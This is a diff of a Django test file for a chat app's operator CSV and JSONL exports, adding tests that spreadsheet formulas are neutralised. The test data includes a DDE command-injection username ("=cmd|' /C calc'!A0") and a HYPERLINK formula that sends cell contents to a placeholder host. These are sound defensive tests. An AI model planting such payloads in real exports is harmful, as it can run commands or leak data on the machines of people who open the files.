@@ -14,15 +14,16 @@ from django.core.management import call_command
 from django.http import StreamingHttpResponse
 from django.urls import reverse
 
-from chat.exports import CSV_COLUMNS, EXPORT_CHUNK_SIZE
 from chat.models import Conversation, Turn
+from chat.operators.access import roles_ensure
+from chat.operators.exports import CSV_COLUMNS, EXPORT_CHUNK_SIZE
 from chat.prompts import SYSTEM_PROMPT
-from chat.roles import roles_ensure
-from chat.runtime import get_toolbox
 from chat.services import conversation_start, turns_append
-from tests.test_review import _fast_password_hasher, _runtime_inside_the_test_transaction, run_conversation  # noqa: F401
+from chat.toolbox import get_toolbox
+from tests.support.driver import run_conversation
+from tickets.models import Customer
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("runtime_on_test_connection")]
 
 # The demo key is the word "key": look for it where it would stand as a value, never the bare word.
 RAW_KEY_FORMS = ['"key"', "'key'", '"api_key": "key"', "&quot;key&quot;", "&#x27;key&#x27;", "\\u0022key\\u0022"]
@@ -82,20 +83,6 @@ def test_the_seed_conversation_keeps_no_raw_key_anywhere(operator_client, caplog
         assert_no_raw_key(text, where)
     logged = "\n".join(record.getMessage() for record in caplog.records)
     assert_no_raw_key(logged, "the logs")
-
-
-def test_exports_mask_a_secret_argument_even_if_stored_raw(operator_client):
-    # Rows are masked when written; the exports and the timeline mask the tool's secret fields again.
-    conversation = conversation_start(session_key="m" * 32)
-    function = {"name": "verify_user", "arguments": '{"username": "john_doe", "api_key": "s3cr3t-raw"}'}
-    turns_append(conversation_id=conversation.id, messages=[
-        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": function}]},
-        {"role": "tool", "tool_call_id": "c1", "content": '{"success": false}'},
-    ])
-    assert "s3cr3t-raw" not in streamed(operator_client.get(reverse("operators:export-jsonl")))
-    assert "s3cr3t-raw" not in command_output()
-    assert "s3cr3t-raw" not in operator_client.get(
-        reverse("operators:conversation", args=[conversation.id])).content.decode()
 
 
 # JSONL
@@ -169,6 +156,48 @@ def test_csv_neutralises_nothing_it_should_not(operator_client):
     assert "HYPERLINK" not in body
 
 
+FORMULA_TOOL = '=HYPERLINK("http://x/?"&A2,"Open")'
+FORMULA_USERNAME = "=cmd|' /C calc'!A0"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def conversation_with_formulas() -> uuid.UUID:
+    """A conversation whose customer's username and whose (invented) tool name are spreadsheet formulas."""
+    customer = Customer.objects.create_user(username=FORMULA_USERNAME)
+    conversation = conversation_start(session_key="f" * 32)
+    Conversation.objects.filter(id=conversation.id).update(customer=customer)
+    function = {"name": FORMULA_TOOL, "arguments": "{}"}
+    turns_append(conversation_id=conversation.id, messages=[
+        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": function}]},
+        {"role": "tool", "tool_call_id": "c1", "content": '{"error": "unknown tool"}'},
+    ])
+    return conversation.id
+
+
+def test_csv_neutralises_formulas_in_the_download_and_the_command(operator_client):
+    conversation_id = conversation_with_formulas()
+    bodies = {
+        "the CSV download": streamed(operator_client.get(reverse("operators:export-csv"))),
+        "the CSV command": command_output("--format", "csv"),
+    }
+    for where, body in bodies.items():
+        rows = list(csv.reader(io.StringIO(body)))
+        assert rows[0] == CSV_COLUMNS, where
+        row = dict(zip(CSV_COLUMNS, next(row for row in rows if row[0] == str(conversation_id)), strict=True))
+        assert row["tools"] == "'" + FORMULA_TOOL, where
+        assert row["customer"] == "'" + FORMULA_USERNAME, where
+        assert not [cell for line in rows for cell in line if cell.startswith(FORMULA_STARTS)], where
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
+    from chat.operators.exports import csv_line
+
+    assert next(csv.reader([csv_line([f"{start}1+1", "plain", "", None])])) == [f"'{start}1+1", "plain", "", ""]
+    # A number is safe: written as a number it stays one, negative or not; the same text is neutralised.
+    assert csv_line([-3, -1.5, 0, "-3"]) == "-3,-1.5,0,'-3\r\n"
+
+
 # STREAMING
 
 
@@ -203,8 +232,8 @@ def test_exports_stream_with_queries_per_chunk_not_per_row(operator_client, name
 
 
 def test_jsonl_lines_are_generated_lazily(demo_data, django_assert_num_queries):
-    from chat.exports import jsonl_lines
-    from chat.review import conversations_matching
+    from chat.operators.exports import jsonl_lines
+    from chat.operators.selectors import conversations_matching
 
     many_conversations(EXPORT_CHUNK_SIZE + 10)
     with django_assert_num_queries(0):
